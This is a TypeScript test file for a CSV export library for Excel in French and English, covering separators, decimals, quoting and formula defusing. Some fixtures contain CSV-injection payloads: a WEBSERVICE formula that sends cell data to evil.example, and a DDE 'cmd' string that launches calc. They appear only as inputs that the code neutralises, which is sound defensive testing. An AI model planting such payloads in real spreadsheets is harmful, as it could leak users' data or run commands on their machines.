import { describe, expect, it } from "vitest";
import { CSV_BOM, csvForm, decimal, parseCsv, readDecimal, textCell, toCsv } from "./csv";

describe("CSV for Excel in French", () => {
  it("starts with a BOM, separates with ';', ends lines with CRLF, writes decimal commas", () => {
    const csv = toCsv(
      [
        { title: "Joueur", value: (r: { p: string; pts: number; d: number }) => r.p },
        { title: "Points", value: (r) => decimal(r.pts, 2), numeric: true },
        { title: "Distance (m)", value: (r) => r.d },
      ],
      [
        { p: "Pastèque turquoise", pts: 7.125, d: 12.4 },
        { p: "Kiwi bleu 2", pts: 0, d: 900_000 },
      ]
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv).toBe(`${CSV_BOM}Joueur;Points;Distance (m)\r\nPastèque turquoise;7,13;12\r\nKiwi bleu 2;0,00;900000\r\n`);
  });

  it("quotes separators, quotes and line breaks, and defuses formulas in text", () => {
    expect(textCell('Tour "Eiffel"; Paris')).toBe('"Tour ""Eiffel""; Paris"');
    expect(textCell("=HYPERLINK(1)")).toBe("'=HYPERLINK(1)");
    expect(textCell("-2+3")).toBe("'-2+3");
    expect(textCell("ligne\nsuivante")).toBe('"ligne\nsuivante"');
    expect(decimal(-1.5, 6)).toBe("-1,500000");
    expect(decimal(null, 2)).toBe("");
  });

  it("defuses a formula hidden after a comma, a semicolon, a tab or a line break, and quotes the cell", () => {
    // Excel in English splits on commas: the second half would run as a formula.
    expect(textCell("x,=WEBSERVICE(\"https://evil.example/?\"&A1)")).toBe('"x,\'=WEBSERVICE(""https://evil.example/?""&A1)"');
    expect(textCell("Lyon;+1+1")).toBe(`"Lyon;'+1+1"`);
    expect(textCell("Lyon\t@SUM(A1)")).toBe(`"Lyon\t'@SUM(A1)"`);
    expect(textCell("Lyon, -1+cmd|' /C calc'!A0")).toBe(`"Lyon,' -1+cmd|' /C calc'!A0"`);
    expect(textCell("Lyon\n=1+1")).toBe(`"Lyon\n'=1+1"`);
    // Every part, however many; the start and a tab or CR at the start too.
    expect(textCell("=1,=2;=3")).toBe(`"'=1,'=2;'=3"`);
    expect(textCell("\t=1")).toBe(`"'\t'=1"`);
    expect(textCell(" =1")).toBe("' =1");
    // A separator alone quotes the cell and changes nothing else.
    expect(textCell("Paris, France")).toBe('"Paris, France"');
    expect(textCell("a\tb")).toBe('"a\tb"');
  });

  it("leaves the numbers the app writes as numbers, negative ones included", () => {
    const csv = toCsv(
      [
        { title: "Longitude", value: (r: { lng: number; d: number }) => decimal(r.lng, 6), numeric: true },
        { title: "Écart", value: (r) => r.d },
      ],
      [{ lng: -2.2945, d: -12 }]
    );
    expect(parseCsv(csv)[1]).toEqual(["-2,294500", "-12"]);
  });

  it("reads back what it wrote", () => {
    const csv = toCsv(
      [
        { title: "Titre", value: (r: string[]) => r[0]! },
        { title: "Valeur", value: (r) => r[1]!, numeric: true },
      ],
      [
        ['Place "Bellecour"; Lyon', "45,764000"],
        ["Sur\ndeux lignes", ""],
      ]
    );
    expect(parseCsv(csv)).toEqual([
      ["Titre", "Valeur"],
      ['Place "Bellecour"; Lyon', "45,764000"],
      ["Sur\ndeux lignes", ""],
    ]);
    expect(readDecimal("45,764000")).toBe(45.764);
  });
});

describe("CSV for Excel in English", () => {
  it("separates with ',' and writes decimal points, with the BOM and CRLF still", () => {
    const en = csvForm("en");
    const csv = toCsv(
      [
        { title: "Player", value: (r: { p: string; pts: number }) => r.p },
        { title: "Points", value: (r) => decimal(r.pts, 2, en), numeric: true },
      ],
      [{ p: "Kiwi, bleu", pts: 7.125 }],
      en,
    );
    expect(csv).toBe(`${CSV_BOM}Player,Points\r\n"Kiwi, bleu",7.13\r\n`);
    expect(parseCsv(csv, en)).toEqual([["Player", "Points"], ["Kiwi, bleu", "7.13"]]);
    expect(decimal(-1.5, 6, en)).toBe("-1.500000");
    expect(readDecimal("7.13")).toBe(7.13);
  });
});
